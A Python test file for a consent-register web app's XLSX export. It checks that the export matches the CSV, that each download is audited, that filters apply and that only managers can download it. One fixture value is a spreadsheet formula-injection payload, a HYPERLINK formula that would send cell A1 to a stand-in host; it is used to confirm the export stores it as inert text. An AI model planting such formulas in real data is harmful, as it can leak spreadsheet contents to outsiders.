"""The consent register as XLSX: the CSV's rows and columns, filtered, audited, managers only."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass

import openpyxl
import pytest
from sqlalchemy import select

from partnercontact.audit.models import AuditEvent
from partnercontact.client_side.consent.models import Consent
from partnercontact.client_side.consent.register_export import COLUMNS
from partnercontact.client_side.consent.service import withdraw_consent
from partnercontact.clock import FixedClock
from partnercontact.db import db
from partnercontact.spreadsheet import csv_safe
from tests.cases_built import attach_pdf, client_of, consent_of
from tests.consent.register_files import headers_in
from tests.factories import Account, Factory
from tests.helpers import log_in, text_of

FORMULA_PLACE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
CLIENT_NAMES = ("Qzvarkel Exportsson", "Qzvarkel Kalkylsson")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass
class Built:
    manager: Account
    signed: Consent
    withdrawn: Consent


@pytest.fixture
def built(factory: Factory, clock: FixedClock) -> Built:
    treater = factory.client_treater().user
    first, second = (client_of(treater, name) for name in CLIENT_NAMES)
    signed = consent_of(treater, first, clock, scopes=["contact_letter", "tell_when_ended"])
    attach_pdf(treater, first, signed)
    withdrawn = consent_of(treater, second, clock, scopes=["contact_phone"], place=FORMULA_PLACE)
    clock.advance(days=3)
    withdraw_consent(treater, second, withdrawn.id, withdrawn_on=clock.now().date())
    db.session.commit()
    return Built(factory.manager(), signed, withdrawn)


def _exports() -> list[AuditEvent]:
    db.session.rollback()
    return list(
        db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "consent_register.exported")
        )
    )


def _sheet_rows(body: bytes) -> list[list[object]]:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Samtyckesregister"]
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def _csv_rows(client, query: str = "") -> list[list[str]]:
    text = text_of(client.get(f"/management/consents.csv{query}")).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def _as_csv(value: object) -> str:
    return "" if value is None else csv_safe(str(value))


def test_the_xlsx_has_the_rows_and_columns_of_the_csv(app, client, built: Built, clock) -> None:
    log_in(client, built.manager, clock)
    response = client.get("/management/consents.xlsx")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="samtyckesregister.xlsx"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = _sheet_rows(response.data)
    assert rows[0] == headers_in(app, "sv")
    assert len(rows) == 3
    assert [[_as_csv(value) for value in row] for row in rows] == _csv_rows(client)
    # Numbers are numbers; a place typed as a formula is text, exactly as typed.
    records = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    withdrawn = records[str(built.withdrawn.id)]
    assert withdrawn["place"] == FORMULA_PLACE
    assert withdrawn["state"] == "Återkallat"
    assert (withdrawn["form_version"], withdrawn["contact_phone"]) == (1, 1)
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        everything = " ".join(archive.read(name).decode() for name in archive.namelist())
    assert "<f>" not in sheet
    for name in CLIENT_NAMES:
        assert name not in everything and name.split()[1] not in everything
    assert built.manager.username not in everything


def test_each_xlsx_export_is_audited(client, built: Built, clock) -> None:
    log_in(client, built.manager, clock)
    client.get("/management/consents.xlsx")
    client.get("/management/consents.xlsx?state=given")
    events = _exports()
    assert [(e.resource_type, e.actor_id) for e in events] == [
        ("consent_register", built.manager.user.id)
    ] * 2


def test_the_xlsx_applies_the_filters(client, built: Built, clock) -> None:
    log_in(client, built.manager, clock)
    for query, expected in [
        ("?state=withdrawn", built.withdrawn),
        ("?scopes=contact_letter", built.signed),
    ]:
        rows = _sheet_rows(client.get(f"/management/consents.xlsx{query}").data)
        assert [row[0] for row in rows[1:]] == [str(expected.id)]


def test_the_register_page_links_to_the_xlsx_with_its_filters(client, built: Built, clock) -> None:
    log_in(client, built.manager, clock)
    body = text_of(client.get("/management/consents?state=withdrawn&version=1"))
    assert "/management/consents.xlsx?state=withdrawn&amp;version=1" in body


@pytest.mark.parametrize(
    ("query", "field"),
    [("signed_from=2026-13-01", "signed_from"), ("state=revoked", "state")],
)
def test_a_bad_filter_answers_400_on_its_field(client, built: Built, clock, query, field) -> None:
    log_in(client, built.manager, clock)
    response = client.get(f"/management/consents.xlsx?{query}")
    assert response.status_code == 400
    assert f'id="{field}-error"' in text_of(response)
    assert _exports() == []


@pytest.mark.parametrize("role", ["client_treater", "partner_treater", "admin"])
def test_only_managers_get_the_xlsx(
    client, built: Built, clock, factory: Factory, role: str
) -> None:
    log_in(client, getattr(factory, role)(), clock)
    response = client.get("/management/consents.xlsx")
    assert response.status_code == 403
    assert not response.data.startswith(b"PK")
    assert _exports() == []
